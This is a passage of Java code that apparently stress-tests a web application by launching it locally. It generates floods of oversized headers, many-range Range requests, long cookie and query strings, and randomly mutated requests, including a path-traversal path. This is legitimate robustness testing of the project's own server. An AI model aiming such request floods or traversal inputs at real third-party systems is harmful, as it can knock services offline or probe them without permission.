				add("flood", "/search?q=" + many(size / 6, "+", (n) -> Integer.toString(n * 7919, 36)));
				add("flood", GUIDE + "/matrix?frameworks=" + "django,".repeat(size / 7));
				add("flood", GUIDE + "/wizard?" + "must=admin&".repeat(size / 11));
				add("flood", "/compare/django" + "-vs-django".repeat(size / 10));
				for (String header : List.of("Accept", "Accept-Encoding", "Accept-Language", "Cookie", "If-None-Match", "Range",
						"Host", "Connection", "X-Forwarded-For", "User-Agent")) {
					this.all.add(Attack.of("flood", get(path, header + ": " + "a".repeat(size) + "\r\n")));
					this.all.add(Attack.of("flood", get(path, header + ": " + many(size / 8, ",", (n) -> "a/" + n + ";q=0") + "\r\n")));
					this.all.add(Attack.of("flood", get(path, (header + ": \"a\"\r\n").repeat(size / header.length()))));
				}
				this.all.add(Attack.of("flood", get(path, many(size / 8, "", (n) -> "H" + n + ": " + n + "\r\n"))));
				this.all.add(Attack.of("flood", get(path, "Range: bytes=" + many(size / 6, ",", (n) -> n + "-" + n) + "\r\n")));
				this.all.add(Attack.of("flood", get(path, "If-None-Match: " + many(size / 8, ",", (n) -> "W/\"" + n + "\"") + "\r\n")));
				this.all.add(Attack.of("flood", get(path, "Cookie: " + many(size / 8, "; ", (n) -> "c" + n + "=" + n) + "\r\n")));
			}
		}

		private static String many(int count, String between, IntFunction<String> part) {
			return IntStream.range(0, count).mapToObj(part).collect(Collectors.joining(between));
		}

		/** Requests as a browser sends them, with some bytes changed. */
		private void mutants(int count) {
			List<String> sane = List.of(get("/guides", ""), get(GUIDE + "/matrix?frameworks=django&only=differences", ""),
					get("/api" + GUIDE + "/decision?html-pages=yes", "Accept: application/json\r\n"),
					get("/search?q=async", "Accept-Encoding: gzip\r\nAccept-Language: en;q=0.9\r\n"),
					get("/", "If-None-Match: W/\"0123456789abcdef\"\r\nConnection: keep-alive\r\n"),
					get("/assets/../guides/%64jango", "Range: bytes=0-10\r\n"));
			for (int i = 0; i < count; i++) {
				StringBuilder text = new StringBuilder(sane.get(i % sane.size()));
				for (int n = this.random.nextInt(8); n >= 0; n--) {
					mutate(text);
				}
				boolean whole = text.indexOf("\r\n\r\n") > 0;
				this.all.add(whole ? Attack.of("mutant", text.toString()) : Attack.open("mutant", text.toString()));
			}
		}

		private void mutate(StringBuilder text) {
			int at = this.random.nextInt(text.length());
			char other = (this.random.nextInt(3) > 0) ? "\r\n\t \u0000:/%?;.&=\"\\\u00ff".charAt(this.random.nextInt(16))
					: (char) this.random.nextInt(256);
			switch (this.random.nextInt(4)) {
				case 0 -> text.setCharAt(at, other);
				case 1 -> text.insert(at, other);
				case 2 -> text.deleteCharAt(at);
				default -> text.insert(at, text.substring(at, Math.min(text.length(), at + this.random.nextInt(30))));
			}
		}

	}

	/* -- What runs -- */

	private Path log() {
		return this.folder.resolve("site.log");
	}

	private void startSite() throws IOException {
		this.site = new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-Xmx512m", "-jar",
				Path.of(this.options.getOrDefault("jar", "target/framewise.jar")).toAbsolutePath().toString(),
				"--server.port=" + this.port, "--management.server.port=0",
				"--framewise.content=" + Path.of("content").toAbsolutePath())
			.redirectErrorStream(true)
			.redirectOutput(log().toFile())
			.start();
		long start = System.nanoTime();
		while (!isReady()) {
			if (System.nanoTime() - start > TimeUnit.SECONDS.toNanos(120) || !this.site.isAlive()) {
				throw new IllegalStateException("The site does not start; see " + log());
			}
			pause(100);
		}
	}

	private boolean isReady() {
		try {
			return ask("/readyz").statusCode() == 200;
		}
		catch (IOException ex) {
			return false;
		}
	}

	private synchronized void stop() {
		this.over = true;
		if (this.stopped || this.site == null) {
			return;
		}
		this.stopped = true;
		this.site.destroy();
		try {
			if (!this.site.waitFor(40, TimeUnit.SECONDS)) {
				this.site.destroyForcibly().waitFor();
			}
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
		}
	}

	private static int freePort() {
		try (ServerSocket socket = new ServerSocket(0)) {
			return socket.getLocalPort();
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private static void delete(Path folder) throws IOException {
		try (Stream<Path> files = Files.walk(folder)) {
			for (Path file : (Iterable<Path>) files.sorted(Comparator.reverseOrder())::iterator) {
				Files.delete(file);
			}
		}
	}

	private static String start(String text, int length) {
		String line = text.replaceAll("\\s+", " ").strip();
		return (line.length() > length) ? line.substring(0, length) + "…" : line;
	}

	private static void pause(long millis) {
		try {
			Thread.sleep(Math.max(0, millis));
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
		}
	}

}
